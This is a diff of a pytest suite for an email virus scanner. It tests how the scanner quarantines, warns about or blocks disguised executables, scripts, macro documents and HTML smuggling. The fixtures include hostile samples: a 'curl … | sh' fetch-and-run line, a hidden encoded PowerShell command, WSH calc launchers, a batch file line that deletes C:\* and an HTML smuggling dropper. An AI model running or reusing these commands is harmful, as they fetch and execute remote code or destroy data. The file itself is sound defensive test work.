@@ -20,12 +20,14 @@ import pytest
 
 from inbound.filters import reset_filters
 from inbound.filters.virus import (
+    ATTACHMENT_REASONS,
     EICAR,
     BuiltinScanner,
     ClamdScanner,
     VirusVerdict,
     get_virus_scanner,
 )
+from mailboxes.models import Attachment
 from mailboxes.parsing import parse_message
 from tests.support.fake_clamd import FakeClamd
 from tests.support.smtp_server import free_port
@@ -105,6 +107,9 @@ def mark_encrypted(data: bytes) -> bytes:
     return bytes(data)
 
 
+PATCH = b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"
+
+
 def scan(scanner, raw: bytes) -> VirusVerdict:
     return scanner.scan(raw=raw, parsed=parse_message(raw))
 
@@ -152,7 +157,9 @@ class TestBuiltinScanner(VirusScannerContract):
         assert EICAR not in raw  # only the decoded part holds it
         verdict = scan(scanner, raw)
         assert verdict.names == ["Eicar-Test-Signature"]
-        assert verdict.findings == [{"name": "Eicar-Test-Signature", "where": "report.txt", "attachment": 0}]
+        assert verdict.findings == [
+            {"name": "Eicar-Test-Signature", "where": "report.txt", "attachment": 0, "action": "quarantine"}
+        ]
 
     def test_eicar_in_a_zip_is_infected(self, scanner):
         verdict = scan(scanner, mail(("files.zip", zipped(("eicar.com", EICAR)), "application/zip")))
@@ -213,41 +220,99 @@ class TestBuiltinScanner(VirusScannerContract):
             (b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "Exe.MachO.Attachment"),
             (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60, "Exe.JavaClass.Attachment"),
             (bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60, "Exe.LNK.Attachment"),
+            (pe_executable(), "Exe.PE.Attachment"),
+        ],
+    )
+    def test_an_executable_disguised_as_a_text_file_is_quarantined(self, scanner, content, name):
+        verdict = scan(scanner, mail(("notes.txt", content, "application/octet-stream")))
+        assert verdict.infected
+        assert verdict.names == [name]
+
+    @pytest.mark.parametrize(
+        ("content", "name"),
+        [
             (b"#!/bin/sh\ncurl http://x.example/a | sh\n", "Script.Shebang.Attachment"),
             (b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c calc"\n', "Script.WSH.Attachment"),
             (b"var x = new ActiveXObject('WScript.Shell'); x.Run('calc');", "Script.WSH.Attachment"),
             (b'<html><head><HTA:APPLICATION ID="x"/></head></html>', "Script.HTA.Attachment"),
             (b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "Script.PowerShell.Attachment"),
             (b"@echo off\r\ndel /q C:\\*\r\n", "Script.Batch.Attachment"),
-            (
-                b"<html><script>var b = new Blob([atob('TVqQ')]); var a = document.createElement('a');"
-                b"a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script></html>",
-                "Html.Smuggling.Attachment",
-            ),
         ],
     )
-    def test_executables_and_scripts_are_recognised_by_content(self, scanner, content, name):
-        verdict = scan(scanner, mail(("notes.txt", content, "application/octet-stream")))
-        assert verdict.names == [name]
+    def test_a_script_under_a_name_that_does_not_run_it_is_delivered_with_a_warning(self, scanner, content, name):
+        verdict = scan(scanner, mail(("body.txt", b"see notes", "text/plain"), ("notes.txt", content, "text/plain")))
+        assert not verdict.infected and verdict.names == []
+        assert verdict.findings == [{"name": name, "where": "notes.txt", "attachment": 1, "action": "warn"}]
+        assert verdict.attachment_actions() == {1: ("warn", "script")}
 
-    def test_macro_enabled_office_document_is_detected(self, scanner):
+    @pytest.mark.parametrize(
+        ("filename", "content", "content_type"),
+        [
+            ("fix_parser.py", b"#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n", "text/x-python"),
+            ("build.sh", b"#!/bin/sh\nset -e\nmake all\n", "application/x-sh"),
+            ("report.pl", b"#!/usr/bin/perl\nuse strict;\nprint 1;\n", "text/x-perl"),
+            ("rake.rb", b"#!/usr/bin/env ruby\nputs 1\n", "application/x-ruby"),
+            ("0001-fix.patch", PATCH, "text/x-diff"),
+            ("example.py", b"def main():\n    return 1\n", "text/x-python"),
+        ],
+    )
+    def test_a_script_or_patch_in_a_list_post_is_no_virus(self, scanner, filename, content, content_type):
+        verdict = scan(scanner, mail((filename, content, content_type)))
+        assert not verdict.infected and not verdict.error
+        assert {action for action, _ in verdict.attachment_actions().values()} <= {"warn"}
+
+    def test_an_honestly_named_program_is_blocked_not_quarantined(self, scanner):
+        verdict = scan(scanner, mail(("setup.exe", pe_executable(), "application/x-msdownload")))
+        assert not verdict.infected
+        assert verdict.attachment_actions() == {0: ("block", "program")}
+
+    def test_a_zip_holding_an_honestly_named_program_is_blocked(self, scanner):
+        verdict = scan(scanner, mail(("tools.zip", zipped(("setup.exe", pe_executable())), "application/zip")))
+        assert not verdict.infected
+        assert verdict.attachment_actions() == {0: ("block", "program")}
+
+    @pytest.mark.parametrize("filename", ["invoice.pdf.exe", "Invoice.PDF      .exe", "photo.jpg.scr", "scan.doc.js"])
+    def test_a_double_extension_is_quarantined(self, scanner, filename):
+        verdict = scan(scanner, mail((filename, b"MZ whatever", "application/octet-stream")))
+        assert verdict.names == ["Heuristics.Filename.DoubleExtension"]
+
+    def test_a_program_sent_as_a_document_type_is_quarantined(self, scanner):
+        verdict = scan(scanner, mail(("invoice.exe", b"not recognisable", "application/pdf")))
+        assert verdict.names == ["Heuristics.Filename.TypeMismatch"]
+
+    def test_html_smuggling_is_blocked(self, scanner):
+        page = (
+            b"<html><script>var b = new Blob([atob('TVqQ')]); var a = document.createElement('a');"
+            b"a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script></html>"
+        )
+        verdict = scan(scanner, mail(("invoice.html", page, "text/html")))
+        assert not verdict.infected
+        assert verdict.findings[0]["name"] == "Html.Smuggling.Attachment"
+        assert verdict.attachment_actions() == {0: ("block", "active_content")}
+
+    def test_macro_enabled_office_document_is_blocked(self, scanner):
         docm = zipped(("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 60))
         verdict = scan(scanner, mail(("report.docx", docm, "application/octet-stream")))
-        assert verdict.names == ["Doc.Macro.OOXML"]
+        assert not verdict.infected
+        assert [f["name"] for f in verdict.findings] == ["Doc.Macro.OOXML"]
+        assert verdict.attachment_actions() == {0: ("block", "macro")}
 
-    def test_legacy_office_document_with_macros_is_detected(self, scanner):
+    def test_legacy_office_document_with_macros_is_blocked(self, scanner):
         doc = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 500 + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
         verdict = scan(scanner, mail(("report.doc", doc, "application/msword")))
-        assert verdict.names == ["Doc.Macro.OLE2"]
+        assert [f["name"] for f in verdict.findings] == ["Doc.Macro.OLE2"]
+        assert verdict.attachment_actions() == {0: ("block", "macro")}
 
     def test_macros_may_be_allowed(self):
         docm = zipped(("word/vbaProject.bin", b"\0" * 64))
         verdict = scan(BuiltinScanner(BLOCK_MACROS=False), mail(("report.docm", docm, "application/octet-stream")))
         assert verdict.clean
 
-    def test_dangerous_file_name_is_refused_even_without_recognisable_content(self, scanner):
+    def test_dangerous_file_name_is_blocked_even_without_recognisable_content(self, scanner):
         verdict = scan(scanner, mail(("update.js", b"var a = 1;", "text/javascript")))
-        assert verdict.names == ["Heuristics.Executable.Extension"]
+        assert not verdict.infected
+        assert [f["name"] for f in verdict.findings] == ["Heuristics.Executable.Extension"]
+        assert verdict.attachment_actions() == {0: ("block", "program")}
 
     def test_right_to_left_override_in_a_file_name_is_refused(self, scanner):
         verdict = scan(scanner, mail(("invoice\u202efdp.txt", b"hello", "text/plain")))
@@ -302,10 +367,10 @@ class TestBuiltinScanner(VirusScannerContract):
         assert verdict.clean
         assert verdict.notes == ["secret.zip › secret.pdf: encrypted, not scanned"]
 
-    def test_executable_name_inside_an_encrypted_zip_is_still_refused(self, scanner):
+    def test_executable_name_inside_an_encrypted_zip_is_quarantined(self, scanner):
         archive = mark_encrypted(zipped(("invoice.exe", b"\x8a\x91 ciphertext")))
         verdict = scan(scanner, mail(("invoice.zip", archive, "application/zip")))
-        assert verdict.names == ["Heuristics.Executable.Extension"]
+        assert verdict.names == ["Heuristics.Encrypted.Executable"]
 
     def test_corrupt_zip_is_noted_not_infected(self, scanner):
         verdict = scan(scanner, mail(("broken.zip", b"PK\x03\x04" + b"\x00" * 50, "application/zip")))
@@ -321,6 +386,10 @@ class TestBuiltinScanner(VirusScannerContract):
         assert not verdict.infected
         assert verdict.error == "scan failed: RuntimeError: bug"
         assert not verdict.clean
+
+
+def test_every_reason_the_scanner_gives_is_one_a_mailbox_can_show():
+    assert set(ATTACHMENT_REASONS.values()) <= set(Attachment.ScanReason.values) - {""}
 
 
 def test_default_scanner_is_builtin(settings):
@@ -365,7 +434,9 @@ class TestClamdScannerAgainstFakeClamd(VirusScannerContract):
         verdict = scan(scanner, mail(body=EICAR.decode()))
         assert verdict.infected
         assert verdict.names == ["Eicar-Signature"]
-        assert verdict.findings == [{"name": "Eicar-Signature", "where": "message", "attachment": None}]
+        assert verdict.findings == [
+            {"name": "Eicar-Signature", "where": "message", "attachment": None, "action": "quarantine"}
+        ]
 
     def test_size_limit_reply_is_an_error(self, fake_clamd):
         fake_clamd.state.max_stream = 1000
